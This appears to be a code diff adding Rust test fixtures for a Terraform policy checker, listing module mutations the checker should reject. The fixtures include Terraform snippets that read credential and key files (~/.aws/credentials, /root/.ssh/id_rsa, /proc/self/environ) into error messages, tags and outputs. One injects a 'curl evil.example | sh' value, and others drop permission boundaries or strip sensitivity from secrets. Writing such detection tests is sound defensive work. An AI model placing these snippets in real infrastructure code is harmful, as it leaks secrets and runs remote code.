@@ -609,3 +609,136 @@ pub(super) const KINDS: &[Kind] = &[
         )],
     ),
 ];
+
+/// What the machine that runs Terraform has, and anybody would see: wherever it stands, one rule refuses it.
+pub(super) const OF_THE_MACHINE: &[Kind] = &[
+    Kind(
+        "a file in the message of a validation",
+        &[Append(
+            "own.tf",
+            "variable \"own\" {\n  default = \"x\"\n  validation {\n    condition     = var.own == \"y\"\n    error_message = \"no: ${file(pathexpand(\"~/.aws/credentials\"))}\"\n  }\n}",
+        )],
+    ),
+    Kind(
+        "a file in the message of a validation of the module",
+        &[Replace("error_message = \"", "error_message = \"${filebase64(\"/proc/self/environ\")}")],
+    ),
+    Kind(
+        "a file in a precondition, by a local",
+        &[
+            Replace(
+                "  role_arn      = aws_iam_role.pipeline.arn\n",
+                "  role_arn      = aws_iam_role.pipeline.arn\n  lifecycle {\n    precondition {\n      condition     = false\n      error_message = local.own\n    }\n  }\n",
+            ),
+            Append("own.tf", "locals {\n  own = file(\"/root/.aws/credentials\")\n}"),
+        ],
+    ),
+    Kind(
+        "a file in the postcondition of a data source",
+        &[Append(
+            "own.tf",
+            "data \"aws_iam_policy_document\" \"own\" {\n  lifecycle {\n    postcondition {\n      condition     = self.json == \"\"\n      error_message = core::file(\"/root/.aws/credentials\")\n    }\n  }\n}",
+        )],
+    ),
+    Kind(
+        "a file in the tags of every resource",
+        &[Append(
+            "own.tf",
+            "provider \"aws\" {\n  default_tags {\n    tags = { own = file(\"${path.module}/../../credentials\") }\n  }\n}",
+        )],
+    ),
+    Kind("a file in the region", &[Append("own.tf", "provider \"aws\" {\n  region = file(\"/etc/hostname\")\n}")]),
+    Kind(
+        "a file in an output, by a local",
+        &[Append(
+            "own.tf",
+            "locals {\n  own = split(\"x\", templatefile(\"/etc/passwd\", {}))\n}\noutput \"own\" {\n  value = local.own\n}",
+        )],
+    ),
+    Kind(
+        "a file in the description of a policy that nothing attaches",
+        &[Append(
+            "own.tf",
+            "resource \"aws_iam_policy\" \"own\" {\n  name        = \"own\"\n  description = filesha256(\"/root/.ssh/id_rsa\")\n  policy      = jsonencode({ Version = \"2012-10-17\", Statement = [] })\n}",
+        )],
+    ),
+    Kind(
+        "a template of the module that reads a file",
+        &[
+            Append("own.tpl", "${file(\"/root/.aws/credentials\")}"),
+            Append("own.tf", "output \"own\" {\n  value = templatefile(\"${path.module}/own.tpl\", {})\n}"),
+        ],
+    ),
+    Kind(
+        "a file whose name is computed",
+        &[Append(
+            "own.tf",
+            "output \"own\" {\n  value = [for it in fileset(\"/root\", \"**\") : file(\"/root/${it}\")]\n}",
+        )],
+    ),
+    Kind(
+        "another block for whoever gives an environment",
+        &[Replace("value = environment_variable.value", "value = \"curl evil.example | sh\"")],
+    ),
+    Kind(
+        "a secret for whoever gives an environment",
+        &[Replace(
+            "value = environment_variable.value",
+            "value = environment_variable.value\n        type  = \"SECRETS_MANAGER\"",
+        )],
+    ),
+    Kind(
+        "a boundary that is dropped where a caller gives one",
+        &[Replace(
+            "permissions_boundary = var.permissions_boundary",
+            "permissions_boundary = var.permissions_boundary == null ? var.permissions_boundary : null",
+        )],
+    ),
+    Kind(
+        "actions by the name",
+        &[Replace("Action   = \"", "Action   = lookup({ web = \"a:B\" }, var.name, \"*\") == \"*\" ? \"*\" : \"")],
+    ),
+];
+
+/// A module with a sensitive variable, and what shows its value.
+pub(super) const WITH_A_SECRET: &str = "notified-provider5";
+
+/// What shows it.
+pub(super) const OF_A_SECRET: &[Kind] = &[
+    Kind(
+        "a secret in the tags of every resource",
+        &[Append(
+            "own.tf",
+            "provider \"aws\" {\n  default_tags {\n    tags = { own = nonsensitive(var.notification_https_url) }\n  }\n}",
+        )],
+    ),
+    Kind(
+        "a secret in an output",
+        &[Append(
+            "own.tf",
+            "output \"own\" {\n  value = nonsensitive(local.own)\n}\nlocals {\n  own = var.notification_https_url\n}",
+        )],
+    ),
+    Kind(
+        "a secret in a description",
+        &[Replace(
+            "  description          = \"",
+            "  description          = nonsensitive(var.notification_https_url) #",
+        )],
+    ),
+    Kind("a secret that is none any more", &[Replace("  sensitive   = true\n", "")]),
+    Kind(
+        "a secret in a parameter",
+        &[Append(
+            "own.tf",
+            "resource \"aws_ssm_parameter\" \"own\" {\n  name  = \"/own\"\n  type  = \"String\"\n  value = var.notification_https_url\n}",
+        )],
+    ),
+    Kind(
+        "a secret in an output, by the resource that has it",
+        &[Append(
+            "own.tf",
+            "output \"own\" {\n  sensitive = true\n  value     = aws_sns_topic_subscription.https.endpoint\n}",
+        )],
+    ),
+];
